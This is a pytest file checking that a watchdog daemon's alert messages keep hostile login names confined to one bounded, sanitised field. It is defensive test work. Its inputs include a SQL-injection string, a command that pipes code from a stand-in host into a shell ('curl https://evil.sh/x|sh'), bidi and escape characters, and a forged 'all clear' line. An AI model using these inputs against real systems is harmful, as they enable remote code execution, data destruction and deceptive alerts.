"""A hostile login name in the daemon's words about a session it ended (review): quotes,
newlines, bidi controls, the field's own marks, a link, a shell line, 1000 characters. The
title never names the login; the body names it only inside one «…» field, on one line, bounded."""

from __future__ import annotations

import pytest

from watchdog.core.outcome_words import row_lock_ended_alert, row_locked_alert

RID = "0123456789abcdef0123456789abcdef"
HOSTILE = [
    'x»\n\nagent-watchdog: all clear «y',
    "a\u202eevil\u202c\u2066b\u2069",
    "'; DROP TABLE runs; -- $(curl https://evil.sh/x|sh)",
    "z" * 1000,
    "a\r\nb\u2028c\u2029d\x1b[31m",
]


@pytest.mark.parametrize("login", HOSTILE)
@pytest.mark.parametrize("which", ["ended", "locked"])
def test_a_hostile_login_stays_inside_its_mark(login, which):
    if which == "ended":
        title, body = row_lock_ended_alert(RID, "running", 250, 2, [(login, 4242)])
    else:
        title, body = row_locked_alert(RID, "running", 250, 2, [(login, 4242)])
    assert login not in title and "4242" not in title
    line = next(ln for ln in body.splitlines() if "pid 4242" in ln)
    field = line[line.index("login «") + len("login «"):line.index("» (pid 4242)")]
    assert "«" not in field and "»" not in field  # one field: nothing closes it early
    assert len(field) <= 64
    for bad in ("\n", "\r", "\u202e", "\u2066", "\u2028", "\x1b", "://", "$(", "|", ";"):
        assert bad not in field
    assert "all clear" not in body.replace(field, "")  # the writer's words only inside the field
